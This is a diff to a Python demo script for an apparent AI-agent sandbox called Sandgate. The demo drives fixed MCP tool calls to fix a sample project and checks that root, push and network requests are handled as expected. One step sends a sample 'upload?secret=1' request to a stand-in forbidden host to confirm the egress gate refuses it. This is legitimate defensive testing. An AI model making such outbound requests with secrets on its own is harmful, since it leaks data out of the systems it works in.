@@ -3,6 +3,7 @@
 import argparse
 import json
 import os
+import re
 import shutil
 import sys
 import tempfile
@@ -11,11 +12,12 @@ from collections.abc import Callable
 from contextlib import suppress
 from dataclasses import dataclass, field
 from pathlib import Path
-from typing import Any
+from textwrap import wrap
+from typing import IO, Any
 
 import anyio
 from mcp import Client
-from mcp.client.stdio import StdioServerParameters
+from mcp.client.stdio import StdioServerParameters, stdio_client
 from mcp.types import CallToolResult, TextContent
 from rich.console import Console
 from rich.text import Text
@@ -27,19 +29,37 @@ from server.record.reading import lines, verify
 from server.sandbox.engine import find_engine
 from server.sandbox.image_build import require
 from server.sandbox.sandbox import USER_ID
-from server.settings import ENVIRON, HOME, Settings
-from server.settings_files import PREFIX, load
+from server.settings.files import PREFIX, load
+from server.settings.settings import ENVIRON, HOME, Settings
 from server.shipped import shipped
 
 EXAMPLE = "examples/shop"
-SHOWN_LINES = 6
+SHOWN_LINES = 8
+WIDE = 112  # columns of a line that an agent reads as one
+MOST_ROWS = 3  # of such a line
+BEYOND = 1 << 40  # bytes, of any output
 FORBIDDEN_HOST = "elsewhere.example"
 
 INTRODUCTION = """\
-An agent is about to work on a small Python project in a sandbox of yours.
-It starts the real server (sandgate serve --stdio), calls its tools as any MCP client would, and checks every answer.
-Nothing needs root and nothing leaves this machine. It works on a copy of the project; your audit gains its lines.
-It takes about 15 seconds. Lines with ~ stream while a command runs, lines with | are its answer.
+What an AI agent does with Sandgate, in about 15 seconds: it finds and mends a mistake in a small Python project, then
+asks for root, for a push and for the network. No model is needed: the calls are fixed; the server, the sandbox, the
+rules, the gate and the record are the real ones. Each answer is compared with what is expected of it.
+
+Nothing needs root and nothing leaves this machine. The project is a copy, which is removed; the record of the session
+goes into your audit, as that of any other.
+
+    ~  what a command prints while it runs
+    |  what the agent is answered
+    !  what the server tells you, its owner: here the demo loosens some things for itself, and each is said
+"""
+
+NEXT = """\
+What next?
+
+    {sandgate} doctor               what this machine can hold a sandbox to, tried in a real one
+    {sandgate} init                 three questions, then settings of your own
+    {sandgate} install claude-code  plug it in; `{sandgate} install --help` names the other clients
+    {sandgate} audit tail           the newest lines of the record
 """
 
 
@@ -57,6 +77,7 @@ class Step:
 @dataclass
 class Tally:
     console: Console
+    told: IO[str]  # what the server says to its owner
     expected: int = 0
     total: int = 0
     decisions: dict[str, str] = field(default_factory=dict)
@@ -72,15 +93,28 @@ def demo(_: argparse.Namespace) -> int:
     engine = find_engine(ENVIRON, HOME, load().state_dir)
     require(engine.url, load().environment)
     console.print(INTRODUCTION, markup=False)
-    tally = Tally(console)
-    with tempfile.TemporaryDirectory(prefix="sandgate-demo-") as folder:
+    with tempfile.TemporaryDirectory(prefix="sandgate-demo-") as folder, tempfile.NamedTemporaryFile("w+") as told:
+        tally = Tally(console, told)
         project = _project(Path(folder))
         with serving(Path(folder)) as origin:
             config = _config(Path(folder), origin)
-            anyio.run(_session, tally, project, config, origin, environment(load(), Path(folder)))
+            try:
+                anyio.run(_session, tally, project, config, origin, environment(load(), Path(folder)))
+            finally:
+                _show_told(tally)
     _check_chain(tally)
+    if tally.expected == tally.total:
+        console.print(NEXT.format(sandgate=called()), markup=False)
     console.print(f"demo: {tally.expected} of {tally.total} as expected")
     return 0 if tally.expected == tally.total else 1
+
+
+def called() -> str:
+    """How a person who stands here calls this program."""
+    program = Path(sys.argv[0]).absolute()
+    if shutil.which("sandgate") == str(program):
+        return "sandgate"
+    return str(program.relative_to(Path.cwd()) if program.is_relative_to(Path.cwd()) else program)
 
 
 def _project(folder: Path) -> Path:
@@ -117,14 +151,23 @@ def environment(settings: Settings, folder: Path) -> dict[str, str]:
 async def _session(tally: Tally, project: Path, config: Path, origin: Origin, environ: dict[str, str]) -> None:
     program = [*_program(), "serve", "--stdio", "--config", str(config), "--workspace", f"{project}:rw"]
     server = StdioServerParameters(command=program[0], args=program[1:], env=environ)
+    # Opened once more: who reads and who writes each have a place in it of their own.
+    with Path(tally.told.name).open("a") as told:  # noqa: ASYNC230 - a file in memory
+        client = Client(stdio_client(server, errlog=told))
+        await _work(tally, client, _steps(project, origin))
+
+
+async def _work(tally: Tally, client: Client, steps: list[Step]) -> None:
     started = time.monotonic()
-    async with Client(server) as client:
+    async with client:
         tools = await client.list_tools()
         tally.console.print(
             f"[dim]server up after {time.monotonic() - started:.1f} s, protocol {client.protocol_version}, "
-            f"{len(tools.tools)} tools[/]\n"
+            f"{len(tools.tools)} tools[/]"
         )
-        for step in _steps(project, origin):
+        _show_told(tally)
+        tally.console.print()
+        for step in steps:
             await _take(tally, client, step)
         await _show_record(tally)
         await client.call_tool("session_close", {"session": "default"})  # nobody has to wonder later what it was
@@ -153,13 +196,13 @@ def _steps(project: Path, origin: Origin) -> list[Step]:
             "shell",
             {"command": "python -m pytest -q"},
             "two of four fail",
-            lambda result, text: _exit(result) == 1 and "2 failed, 2 passed" in text,
+            lambda result, text: _exit(result, text) == 1 and "2 failed, 2 passed" in text,
         ),
         Step(
             "Where the discount is computed",
             "file_search",
-            {"pattern": "discount_percent", "glob": "*.py"},
-            "the line in cart.py is found",
+            {"pattern": "discount_percent //", "glob": "*.py"},
+            "the line in cart.py is found, with what is around it",
             lambda _, text: "shop/cart.py" in text,
         ),
         Step(
@@ -181,7 +224,7 @@ def _steps(project: Path, origin: Origin) -> list[Step]:
             "shell",
             {"command": "for test in sum percent full negative; do python -m pytest -q -k $test | tail -1; done"},
             "all four pass, each told as it ends",
-            lambda result, text: _exit(result) == 0 and text.count("1 passed") == 4,  # noqa: PLR2004 - four tests
+            lambda result, text: _exit(result, text) == 0 and text.count("1 passed") == 4,  # noqa: PLR2004 - four tests
         ),
         Step(
             "A new file",
@@ -195,7 +238,7 @@ def _steps(project: Path, origin: Origin) -> list[Step]:
             "exec",
             {"argv": ["ls", "/sys/class/net"]},
             "loopback and nothing else",
-            lambda result, text: _exit(result) == 0 and text.strip() == "lo",
+            lambda result, text: _exit(result, text) == 0 and text.strip() == "lo",
         ),
         Step(
             "Root, please?",
@@ -216,14 +259,16 @@ def _steps(project: Path, origin: Origin) -> list[Step]:
             "shell",
             {"command": f"curl -sS {origin.url}"},
             "its page comes through the gate",
-            lambda result, text: _exit(result) == 0 and "the one host" in text,
+            lambda result, text: _exit(result, text) == 0 and "the one host" in text,
         ),
         Step(
             "Any other host",
             "exec",
             {"argv": ["python3", "-c", _fetch(f"https://{FORBIDDEN_HOST}/upload?secret=1")]},
             "403 with the reason, and the result says who refused",
-            lambda result, text: "egress.not_allowed" in text and "the gate refused" in text and _exit(result) == 0,
+            lambda result, text: (
+                "egress.not_allowed" in text and "the gate refused" in text and _exit(result, text) == 0
+            ),
         ),
     ]
 
@@ -237,9 +282,23 @@ def _fetch(url: str) -> str:
     )
 
 
-def _exit(result: CallToolResult) -> int | None:
-    code = (result.structured_content or {}).get("exit_code")
+def _exit(result: CallToolResult, text: str) -> int | None:
+    """Of a job that outlasted its call, by what was read of its end."""
+    late = re.search(r"\bjob j\d+ exited with (\d+);", text)
+    code = int(late[1]) if late else (result.structured_content or {}).get("exit_code")
     return code if isinstance(code, int) else None
+
+
+def _text(result: CallToolResult) -> str:
+    return "\n".join(part.text for part in result.content if isinstance(part, TextContent))
+
+
+async def _to_its_end(client: Client, job: str) -> str:
+    """What a job says that outlasts its call, as on a busy machine: all of it, once it is over."""
+    while True:
+        past_all = {"job": job, "offset": BEYOND, "wait_s": 45}  # so that only the end is waited for
+        if f"job {job} running;" not in _text(await client.call_tool("job_output", past_all)):
+            return _text(await client.call_tool("job_output", {"job": job}))
 
 
 async def _take(tally: Tally, client: Client, step: Step) -> None:
@@ -251,21 +310,35 @@ async def _take(tally: Tally, client: Client, step: Step) -> None:
 
     async def heard(progress: float, total: float | None, message: str | None) -> None:  # noqa: ARG001 - the SDK's names
         streamed.extend((message or "").splitlines())
-        for line in (message or "").splitlines()[-SHOWN_LINES:]:
-            console.print(Text(f"    ~ {line[:150]}", style="dim"))
+        for line in list(filter(None, (message or "").splitlines()))[-SHOWN_LINES:]:
+            console.print(Text(_rows("~", line), style="dim"))
 
     result = await client.call_tool(step.tool, step.arguments, progress_callback=heard)
-    text = "\n".join(part.text for part in result.content if isinstance(part, TextContent))
+    said, text = result.structured_content or {}, _text(result)
+    if said.get("status") == "running":
+        text = await _to_its_end(client, str(said["job"]))
     fresh = [line for line in text.splitlines() if line not in streamed]
     for line in fresh if len(fresh) <= SHOWN_LINES else [*fresh[:2], "...", *fresh[2 - SHOWN_LINES :]]:
-        console.print(Text(f"    | {line[:150]}"))
+        console.print(Text(_rows("|", line)))
     holds = step.holds(result, text)
     tally.count(holds=holds)
-    said = result.structured_content or {}
     tally.decisions[step.title] = str(said.get("decision_id", ""))
     tally.asked = str((said.get("approval") or {}).get("id", "")) or tally.asked
     mark = "[green]as expected[/]" if holds else "[red]NOT as expected[/]"
+    _show_told(tally)
     console.print(f"    {mark}: {step.expected}\n")
+
+
+def _rows(mark: str, line: str) -> str:
+    """One line as a terminal shows it whole; what a person need not read to its end is cut, and that is seen."""
+    rows = wrap(line, WIDE, max_lines=MOST_ROWS, placeholder=" ...") or [""]
+    return "\n".join(f"    {mark} {row}".rstrip() for row in rows)
+
+
+def _show_told(tally: Tally) -> None:
+    """What the server has said to its owner since this was last asked."""
+    for line in tally.told.read().splitlines():
+        tally.console.print(Text(_rows("!", line.removeprefix("sandgate: ")), style="yellow"))
 
 
 def _brief(arguments: dict[str, Any]) -> str:
